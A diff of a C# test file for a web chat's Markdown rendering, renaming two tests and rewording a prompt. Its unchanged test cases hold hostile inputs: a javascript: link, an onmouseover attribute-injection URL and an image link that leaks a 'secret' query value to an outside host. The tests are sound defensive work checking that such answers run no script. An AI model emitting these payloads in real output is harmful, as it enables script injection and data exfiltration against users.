@@ -30,7 +30,7 @@ public sealed class MarkdownTests : WebChatTest
     [TestCase("[click](javascript:window.isHacked=true)", "[click](javascript:window.isHacked=true)")]
     [TestCase("[click](https://example.com/\"onmouseover=\"window.isHacked=true)", "click")]
     [TestCase("![picture](https://example.com/leak?said=secret)", "picture")]
-    public async Task Malicious_answer_runs_no_script_and_loads_nothing(string text, string expected)
+    public async Task Malicious_answer_runs_no_script_and_loads_nothing_from_other_hosts(string text, string expected)
     {
         var hosts = new List<string>();
         Server.AnswersText(text);
@@ -96,13 +96,13 @@ public sealed class MarkdownTests : WebChatTest
     [TestCase("> a\n\n")]
     [TestCase("`a` ")]
     [TestCase("> `a` ")]
-    public async Task Answer_with_very_many_elements_is_shown(string repeated)
+    public async Task Answer_with_50000_elements_is_shown_completely(string repeated)
     {
         const int Count = 50_000;
         Server.Answers(FakeAnswer.Stream(string.Concat(Enumerable.Repeat(repeated, Count))));
         await OpenAsync();
 
-        await AskAsync("Write much.");
+        await AskAsync("Write a lot.");
 
         await Expect(Status).ToHaveTextAsync("Done.");
         (await AnswerText.TextContentAsync())!.Count(character => character == 'a').Should().Be(Count);
